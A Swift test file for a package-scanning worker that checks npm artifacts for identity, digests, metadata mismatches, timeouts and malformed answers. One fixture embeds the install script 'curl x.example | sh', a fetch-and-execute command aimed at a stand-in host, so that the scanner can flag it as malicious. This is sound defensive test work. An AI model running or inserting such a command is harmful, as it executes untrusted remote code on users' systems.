import Analyzers
import Cryptography
import Platform
import Registry
import Screening
import TestSupport
import Testing
import VerdictStore

@testable import Worker

@Suite("Analyses without a gateway")
struct LocalAnalysisTests {
    private let directory: TemporaryDirectory

    init() throws { directory = try TemporaryDirectory() }

    private func file(_ bytes: [UInt8]) throws -> OpenFile {
        try OpenFile.openForReading(try directory.write(bytes, to: "artifact"))
    }

    private func analysis(limits: AnalysisLimits = .standard) throws -> LocalAnalysis {
        LocalAnalysis(
            executablePath: try probePath(), concurrent: 2, sandbox: .degraded, limits: limits,
            childLimits: ChildLimits(grace: .seconds(5)))
    }

    @Test("a file is named by its content, hashed, and judged as a worker judges it")
    func sameAsWorker() async throws {
        let bytes = tarball(script: "curl x.example | sh")
        let outcome = try await analysis().analyze(.init(file: try file(bytes), filename: "box.tgz")).get()
        #expect(outcome.identity.purl?.text == "pkg:npm/acme-box@1.2.3")
        #expect(outcome.digests == ComputedDigests(of: bytes))
        let order = AnalysisOrder(
            context: ArtifactContext(
                ecosystem: .npm, purl: try PackageURL(parsing: "pkg:npm/acme-box@1.2.3"), filename: "box.tgz"),
            limits: .standard, ruleset: StaticAnalyzer.revision.ruleset.digest, memoryBytes: 3 << 30,
            allowsDegradedSandbox: true)
        let runner = AnalysisRunner(
            executable: try probePath(), arguments: [], limits: ChildLimits(),
            pool: BlockingPool(name: "worker", threads: 1))
        let listed = try await runner.run(order, on: try file(bytes)).get()
        #expect(outcome.report == listed)
        #expect(listed.verdict == .malicious)
    }

    @Test("a name that the caller gives is compared with the content")
    func givenName() async throws {
        let other = try PackageURL(parsing: "pkg:npm/other@1.2.3")
        let outcome = try await analysis().analyze(
            .init(file: try file(tarball()), filename: "box.tgz", purl: other)
        ).get()
        #expect(outcome.identity.purl == other)
        #expect(outcome.report.findings.contains { $0.finding.rule == "META-MISMATCH" })
    }

    @Test("a given ecosystem is not the artifact's to change")
    func givenEcosystem() async throws {
        let outcome = try await analysis().analyze(
            .init(file: try file(tarball()), filename: "box.tgz", ecosystem: .pypi)
        ).get()
        #expect(outcome.identity.ecosystem == .pypi)
    }

    @Test("what is no archive has a report; what takes too long has none")
    func noReport() async throws {
        let text = try await analysis().analyze(
            .init(file: try file(Array("no archive".utf8)), filename: "box.tgz")
        ).get()
        #expect(text.report.verdict == .suspicious)
        var limits = AnalysisLimits.standard
        limits.seconds = 0
        let late = try await analysis(limits: limits).analyze(.init(file: try file(tarball()), filename: "box.tgz"))
        guard case .failure(let failure) = late else {
            Issue.record("it answered")
            return
        }
        #expect(failure.word == "time")
    }

    @Test("an answer that says what nobody asked is garbage")
    func unaskedIdentity() async throws {
        let report = try await analysis().analyze(.init(file: try file(tarball()), filename: "box.tgz")).get().report
        let answer = AnalysisAnswer.encode(report, identity: ArtifactIdentity(ecosystem: .npm, purl: nil))
        let length = [0, 8, 16, 24].reversed().map { UInt8(answer.count >> $0 & 0xFF) }
        let path = try directory.write(length + answer, to: "answer")
        let script = "/bin/dd bs=65536 count=1 <&4 >/dev/null 2>&1; /bin/cat \(path) >&4"
        let runner = AnalysisRunner(
            executable: "/bin/sh", arguments: ["-c", script], limits: ChildLimits(),
            pool: BlockingPool(name: "worker", threads: 1))
        let order = AnalysisOrder(
            context: ArtifactContext(
                ecosystem: .npm, purl: try PackageURL(parsing: "pkg:npm/acme-box@1.2.3"), filename: "box.tgz"),
            limits: .standard, ruleset: StaticAnalyzer.revision.ruleset.digest, memoryBytes: 3 << 30,
            allowsDegradedSandbox: true)
        let result = await runner.run(order, on: try file(tarball()))
        guard case .failure(let failure) = result else {
            Issue.record("it was believed")
            return
        }
        #expect(failure.cause == .garbage)
    }
}
